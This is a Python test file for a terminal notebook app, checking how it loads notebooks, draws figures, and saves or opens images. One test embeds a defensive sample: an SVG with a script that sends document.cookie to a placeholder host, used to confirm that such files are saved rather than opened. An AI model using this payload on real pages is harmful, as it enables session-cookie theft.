"""Figures under their cell and /load in the app, driven with Textual's Pilot against a real daemon, real
kernels, real matplotlib and the fake model."""

from __future__ import annotations

import base64
import io
import os
import re
import time
from pathlib import Path

import nbformat
from PIL import Image as PILImage
from textual_image.widget import SixelImage

from agent.config import home
from agent.types import Attachment
from daemon.client import Client
from tests.tui.test_app import SIZE, app_for, until
from tui.images import Figure
from tui.widgets.cell_view import CellView
from tui.widgets.figure_row import FigureRow
from tui.widgets.message import AssistantMessage, Notice, UserMessage

PLOT = "import matplotlib.pyplot as plt\nplt.plot([3, 1, 2])\nplt.show()"


async def test_load_runs_a_notebook_its_figure_shows_under_its_cell_and_o_saves_it(daemon: Client, project: Path,
                                                                                  model_server):
    """In a terminal with graphics (`graphics`: what terminal_graphics() gives a sixel one) the figure is
    drawn, 16 rows high, above its row."""
    nbformat.write(nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# data"), nbformat.v4.new_code_cell("data = [3, 1, 2]"),
        nbformat.v4.new_code_cell(PLOT)]), project / "analysis.ipynb")
    app = app_for(daemon, project, model_server, graphics=SixelImage)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.session_id is not None and app.events_seen > 0)
        app.query_one("#prompt").load_text("/load analysis.ipynb")
        await pilot.press("enter")
        await until(pilot, lambda: len(app.query(FigureRow)) == 1 and app.state == "idle")
        assert [c.code for c in app.query(CellView)] == ["data = [3, 1, 2]", PLOT]
        assert [m.text for m in app.query(UserMessage)] == [
            "run the notebook analysis.ipynb: its 2 code cells, in this session's kernel"]
        (row,) = app.query(FigureRow)
        (picture,) = row.query(SixelImage)
        await until(pilot, lambda: picture.size.height > 0)  # laid out
        assert row.parent is app.query(CellView)[1] and row.drawn
        assert picture.size.height == 16 and 0 < picture.size.width < SIZE[0]
        assert re.fullmatch(r"└─ image \d+×\d+ — o opens it", row.row.content.plain), row.row.content.plain
        row.focus()
        await pilot.press("o")  # no display here to open it on: saved, and the row says where
        said = re.search(r"saved to (\S+)", row.row.content.plain)
        assert said and Path(said.group(1)).parent == home() / "images"
        assert Path(said.group(1)).read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
        # the notebook's state is the agent's starting point
        app.query_one("#prompt").load_text("run: print(sorted(data))")
        app.query_one("#prompt").focus()
        await pilot.press("enter")
        await until(pilot, lambda: any(m.text == "ran: [1, 2, 3]" for m in app.query(AssistantMessage)))


async def test_load_says_what_is_wrong_with_a_notebook_and_runs_nothing(daemon: Client, project: Path, model_server):
    (project / "broken.ipynb").write_text("{not json")
    app = app_for(daemon, project, model_server)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.session_id is not None and app.events_seen > 0)
        app.query_one("#prompt").load_text("/load broken.ipynb")
        await pilot.press("enter")
        await until(pilot, lambda: any("is not a valid notebook" in str(n.content) for n in app.query(Notice)))
        assert not app.query(CellView) and app.state == "idle"


def test_o_opens_only_an_image_pillow_read_never_an_svg_the_kernel_made(tmp_path: Path, monkeypatch):
    """The attack: a cell displays an SVG carrying a script (or any bytes named an image); `o` must not
    hand it to the desktop's opener (a browser runs the script). A PNG opens; the SVG is saved, not opened."""
    opened = tmp_path / "opened"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "xdg-open").write_text(f"#!/bin/sh\necho \"$1\" >> {opened}\n")
    (bin_dir / "xdg-open").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    monkeypatch.setenv("DISPLAY", ":0")
    png = io.BytesIO()
    PILImage.new("RGB", (64, 48)).save(png, "PNG")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/" + document.cookie)</script></svg>'
    said = {mime: Figure.of(Attachment(mime=mime, data=base64.b64encode(data).decode())).open(f"f-{n}")
            for n, (mime, data) in enumerate([("image/svg+xml", svg), ("image/png", png.getvalue())])}
    assert said["image/svg+xml"].startswith("saved to ") and "not opened" in said["image/svg+xml"]
    assert said["image/png"].startswith("opened ") and Figure.of(
        Attachment(mime="image/png", data=base64.b64encode(png.getvalue()).decode())).describe() == "image 64×48"
    deadline = time.monotonic() + 30
    while not opened.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [Path(p).suffix for p in opened.read_text().split()] == [".png"]  # the PNG alone reached the viewer


def test_a_figure_that_does_not_decode_gets_its_row_and_breaks_nothing():
    """A cell can display any bytes as image/png: a header promising 2000×1000 over truncated data is
    named by its row, never decoded into the app (which would crash drawing it)."""
    png = io.BytesIO()
    PILImage.new("RGB", (2000, 1000)).save(png, "PNG")
    figure = Figure.of(Attachment(mime="image/png", data=base64.b64encode(png.getvalue()[:200]).decode()))
    assert figure is not None and figure.describe() == "image 2000×1000" and figure.pil() is None
    assert not FigureRow(figure, "cut", graphics=SixelImage).drawn
    whole = Figure.of(Attachment(mime="image/png", data=base64.b64encode(png.getvalue()).decode()))
    assert whole is not None and FigureRow(whole, "whole", graphics=SixelImage).drawn
    assert not FigureRow(whole, "whole", graphics=None).drawn  # a terminal without graphics: the row alone
    assert Figure.of(Attachment(mime="image/png", data="not base64!")) is None
